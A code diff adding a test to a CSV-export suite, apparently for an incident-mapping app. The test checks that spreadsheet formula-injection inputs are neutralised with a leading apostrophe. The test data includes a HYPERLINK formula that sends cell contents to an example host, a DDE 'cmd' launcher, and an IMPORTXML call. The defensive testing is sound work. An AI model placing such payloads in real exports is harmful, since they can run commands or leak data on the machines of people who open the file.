@@ -86,6 +86,31 @@ describe('CSV export', () => {
 		expect(row.summary).toBe(tricky.properties.summary);
 		expect(row.target).toBe(' leading space');
 	});
+
+	it('neutralises cells a spreadsheet would run; numbers, negative ones too, stay numbers', () => {
+		const base = strikes[0]!;
+		const hostile: IncidentFeature = {
+			...base,
+			geometry: { type: 'Point', coordinates: [-3.2, -5] },
+			properties: {
+				...base.properties,
+				place: '=HYPERLINK("http://example.org/?"&A1,"Hajin")',
+				actor: "+cmd|' /C calc'!A0",
+				target: '@SUM(1+1)*cmd|x',
+				claimed_by: '-2+3',
+				summary: '\t=1+1',
+				sources: ['=IMPORTXML("http://example.org","//a")']
+			}
+		};
+		const row = parseCsv(incidentsCsv([hostile], figures, context)).data[0]!;
+		expect(row.place).toBe(`'=HYPERLINK("http://example.org/?"&A1,"Hajin")`);
+		expect(row.actor).toBe("'+cmd|' /C calc'!A0");
+		expect(row.target).toBe("'@SUM(1+1)*cmd|x");
+		expect(row.claimed_by).toBe("'-2+3");
+		expect(row.summary).toBe("'\t=1+1");
+		expect(row.sources).toBe(`'=IMPORTXML("http://example.org","//a")`);
+		expect([row.longitude, row.latitude]).toEqual(['-3.2', '-5']);
+	});
 });
 
 describe('GeoJSON export', () => {
